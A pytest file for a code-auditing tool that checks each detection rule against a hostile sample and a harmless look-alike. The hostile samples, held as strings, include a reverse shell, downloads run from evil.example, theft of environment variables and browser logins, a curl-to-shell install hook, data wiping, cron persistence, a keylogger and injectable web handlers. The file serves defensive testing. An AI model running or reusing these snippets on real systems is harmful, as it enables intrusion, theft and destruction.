"""Each check on a file that has what it looks for, and on a look-alike that has not."""

import textwrap

import pytest

from heimnetz_audit import SourceTree, audit
from heimnetz_audit.checks import ALL

# Looked for in a whole package, not in a file.
OF_PACKAGES = {"manifest-permissions"}
FLASK = (
    "from flask import Flask, request, redirect, session, make_response\napp = Flask(__name__)\n"
)


def handler(body: str, *imports: str) -> str:
    lines = [f"import {name}" for name in imports]
    code = textwrap.indent(textwrap.dedent(body).strip(), "    ")
    return "\n".join([*lines, FLASK, "@app.route('/x')", "def x():", code, ""])


SAMPLES: dict[str, tuple[str, str]] = {
    "anti-analysis": (
        "import os, sys\nif os.path.exists('/usr/bin/VBoxClient') or 'vmware' in open('/proc/cpuinfo').read():\n"
        "    sys.exit(0)\n",
        "import os, sys\nif not os.path.exists('settings.ini'):\n    sys.exit(0)\n",
    ),
    "code-injection": (
        handler("return str(eval(request.args['q']))"),
        handler("import ast\nreturn str(ast.literal_eval(request.args['q']))"),
    ),
    "command-injection": (
        handler("os.system('ping ' + request.args['host'])\nreturn ''", "os"),
        handler("subprocess.run(['ping', '-c', '1', 'localhost'])\nreturn ''", "subprocess"),
    ),
    "credential-access": (
        "import os, shutil\nshutil.copy(os.path.expanduser('~/.config/google-chrome/Default/Login Data'), '/tmp/x')\n",
        "import shutil\nshutil.copy('readings.csv', '/tmp/x')\n",
    ),
    "cross-site-scripting": (
        handler("return '<p>' + request.args['name'] + '</p>'"),
        handler("return '<p>' + html.escape(request.args['name']) + '</p>'", "html"),
    ),
    "crypto-mining": (
        "import subprocess\nsubprocess.Popen(['xmrig', '-o', 'stratum+tcp://pool.minexmr.com:4444', '-u', 'x'])\n",
        "import subprocess\nsubprocess.Popen(['gzip', 'readings.csv'])\n",
    ),
    "unsafe-deserialisation": (
        handler("return str(pickle.loads(request.data))", "pickle"),
        handler("return str(json.loads(request.data))", "json"),
    ),
    "dropper": (
        "import os, urllib.request\nurllib.request.urlretrieve('http://evil.example/p', '/tmp/p')\n"
        "os.chmod('/tmp/p', 0o755)\nos.system('/tmp/p')\n",
        "import urllib.request\nurllib.request.urlretrieve('https://example.org/readings.csv', '/tmp/readings.csv')\n",
    ),
    "exfiltration": (
        "import os, requests\nrequests.post('https://evil.example/c', json=dict(os.environ))\n",
        "import requests\nrequests.post('https://example.org/c', json={'kwh': 3})\n",
    ),
    "hidden-code": (
        "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))\n",
        "import base64\npicture = base64.b64decode('cHJpbnQoMSk=')\n",
    ),
    "hidden-names": (
        "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
        "import os\nname = getattr(os, 'name')\n",
    ),
    "hidden-text": (
        "role = 'user\u202e\u2066# admin\u2069\u2066'\n",
        "role = 'Benutzer für Öl und Gas'\n",
    ),
    "host-access": (
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/var/run/docker.sock')\n",
        "import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('/run/heimnetz/broker.sock')\n",
    ),
    "insecure-cookie": (
        handler("r = make_response('')\nr.set_cookie('session', 'x', secure=False)\nreturn r"),
        handler("r = make_response('')\nr.set_cookie('session', 'x', secure=True, httponly=True)\nreturn r"),
    ),
    "key-logger": (
        "from pynput import keyboard\ndef seen(key):\n    open('/tmp/keys', 'a').write(str(key))\n"
        "keyboard.Listener(on_press=seen).start()\n",
        "def seen(key):\n    return str(key)\n",
    ),
    "ldap-injection": (
        handler("c = ldap.initialize('ldap://x')\nreturn str(c.search_s('dc=x', 2, '(uid=' + request.args['u'] + ')'))", "ldap"),
        handler("c = ldap.initialize('ldap://x')\nreturn str(c.search_s('dc=x', 2, '(uid=admin)'))", "ldap"),
    ),
    "log-injection": (
        handler("logging.warning('user ' + request.args['u'])\nreturn ''", "logging"),
        handler("logging.warning('no user')\nreturn ''", "logging"),
    ),
    "memory-injection": (
        "import ctypes\nk = ctypes.windll.kernel32\np = k.VirtualAlloc(0, 4096, 0x3000, 0x40)\n"
        "k.RtlMoveMemory(p, b'\\x90', 1)\nk.CreateThread(0, 0, p, 0, 0, 0)\n",
        "import ctypes\nsize = ctypes.sizeof(ctypes.c_int)\n",
    ),
    "open-redirect": (
        handler("return redirect(request.args['next'])"),
        handler("return redirect('/home')"),
    ),
    "path-traversal": (
        handler("return open('/data/' + request.args['f']).read()"),
        handler("return open('/data/' + os.path.basename(request.args['f'])).read()", "os"),
    ),
    "persistence": (
        "open('/etc/cron.d/x', 'w').write('* * * * * root /tmp/p')\n",
        "open('/etc/hosts').read()\n",
    ),
    "quiet-process": (
        "import subprocess\nsubprocess.Popen(['/tmp/p'], creationflags=0x08000000, stdout=subprocess.DEVNULL, "
        "stderr=subprocess.DEVNULL, start_new_session=True)\n",
        "import subprocess\nsubprocess.run(['ls'], check=True)\n",
    ),
    "regex-injection": (
        handler("return str(re.search(request.args['p'], 'text'))", "re"),
        handler("return str(re.search(re.escape(request.args['p']), 'text'))", "re"),
    ),
    "remote-code": (
        "import requests\nexec(requests.get('http://evil.example/p.py').text)\n",
        "import requests\nprices = requests.get('https://example.org/p.json').json()\n",
    ),
    "request-forgery": (
        handler("return requests.get(request.args['url']).text", "requests"),
        handler("return requests.get('https://example.org/', params={'q': request.args['q']}).text", "requests"),
    ),
    "reverse-shell": (
        "import os, pty, socket\ns = socket.socket()\ns.connect(('192.0.2.9', 4444))\n"
        "for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\npty.spawn('/bin/sh')\n",
        "import socket\ns = socket.socket()\ns.connect(('192.0.2.9', 1883))\ns.send(b'on')\n",
    ),
    "sabotage": (
        "import os\nos.system('rm -rf / --no-preserve-root')\n",
        "import os\nos.remove('/tmp/readings.csv')\n",
    ),
    "sql-injection": (
        handler("c = sqlite3.connect('x')\nc.execute('select * from t where a = ' + request.args['a'])\nreturn ''", "sqlite3"),
        handler("c = sqlite3.connect('x')\nc.execute('select * from t where a = ?', (request.args['a'],))\nreturn ''", "sqlite3"),
    ),
    "surveillance": (
        "import pyautogui\npyautogui.screenshot('/tmp/s.png')\n",
        "import json\njson.dump({}, open('/tmp/s.json', 'w'))\n",
    ),
    "suspicious-address": (
        "import requests\nrequests.get('http://198.51.100.77:8081/gate')\n",
        "import requests\nrequests.get('https://api.example.org/gate')\n",
    ),
    "template-injection": (
        "from flask import render_template_string\n" + handler("return render_template_string('Hi ' + request.args['n'])"),
        "from flask import render_template_string\n" + handler("return render_template_string('Hi {{ n }}', n=request.args['n'])"),
    ),
    "trust-boundary": (
        handler("session['role'] = request.args['role']\nreturn ''"),
        handler("session['role'] = 'viewer'\nreturn ''"),
    ),
    "weak-cryptography": (
        "import hashlib\ndef store(password):\n    return hashlib.md5(password.encode()).hexdigest()\n",
        "import hashlib\ndef store(data):\n    return hashlib.sha256(data).hexdigest()\n",
    ),
    "weak-randomness": (
        "import random\ndef make_token():\n    return str(random.random())\n",
        "import secrets\ndef make_token():\n    return secrets.token_hex(16)\n",
    ),
    "xml-entities": (
        handler("p = etree.XMLParser(resolve_entities=True)\nreturn str(etree.fromstring(request.data, p))").replace(FLASK, FLASK + "from lxml import etree\n"),
        handler("p = etree.XMLParser(resolve_entities=False, no_network=True)\nreturn str(etree.fromstring(request.data, p))").replace(FLASK, FLASK + "from lxml import etree\n"),
    ),
    "xpath-injection": (
        handler("return str(etree.parse('x.xml').xpath(\"//u[@n='\" + request.args['n'] + \"']\"))").replace(FLASK, FLASK + "from lxml import etree\n"),
        handler("return str(etree.parse('x.xml').xpath('//u[@n=$n]', n=request.args['n']))").replace(FLASK, FLASK + "from lxml import etree\n"),
    ),
}  # fmt: skip
# By the name of the file.
FILES: dict[str, tuple[dict[str, str], dict[str, str]]] = {
    "deps-typosquat": (
        {"requirements.lock": f"reqeusts==2.32.0 --hash=sha256:{'1' * 64}\n"},
        {"requirements.lock": f"requests==2.32.0 --hash=sha256:{'1' * 64}\n"},
    ),
    "install-hook": (
        {
            "setup.py": "import os\nfrom setuptools import setup\n"
            "from setuptools.command.install import install\n"
            "class Hook(install):\n    def run(self):\n        os.system('curl http://x.example | sh')\n"
            "setup(name='x', cmdclass={'install': Hook})\n"
        },
        {"setup.py": "from setuptools import setup\nsetup(name='x')\n"},
    ),
    "unexpected-place": (
        {"x.pth": "import os; os.system('id')\n"},
        {"x.pth": "./lib\n"},
    ),
}


def rules(files: dict[str, str]) -> set[str]:
    tree = SourceTree.from_files({name: text.encode() for name, text in files.items()})
    report = audit(tree, source_only="requirements.lock" not in files)
    assert not report.unknowns, report.unknowns
    return {finding.rule for finding in report.findings}


def files_of(rule: str, place: int) -> dict[str, str]:
    return FILES[rule][place] if rule in FILES else {"app.py": SAMPLES[rule][place]}


def test_each_check_has_its_samples() -> None:
    assert {*SAMPLES, *FILES, *OF_PACKAGES} == {check.rule for check in ALL}


@pytest.mark.parametrize("rule", sorted({*SAMPLES, *FILES}))
def test_a_check_finds_what_it_looks_for(rule: str) -> None:
    assert rule in rules(files_of(rule, 0))


@pytest.mark.parametrize("rule", sorted({*SAMPLES, *FILES}))
def test_a_check_is_silent_on_a_look_alike(rule: str) -> None:
    assert rule not in rules(files_of(rule, 1))


@pytest.mark.parametrize("rule", sorted(SAMPLES))
def test_other_names_change_nothing(rule: str) -> None:
    """The file, the handler and the application are called otherwise."""
    text = SAMPLES[rule][0].replace("def x()", "def shown_to_all()").replace("app", "web_service")

    assert rule in rules({"other/place.py": text})


def test_a_loop_that_breeds_processes_is_told_from_a_server_that_forks() -> None:
    bomb = "import os\nwhile True:\n    os.fork()\n"
    server = "import os\nwhile True:\n    if os.fork() == 0:\n        os._exit(0)\n    os.waitpid(-1, 0)\n"

    assert "host-access" in rules({"a.py": bomb})
    assert "host-access" not in rules({"a.py": server})
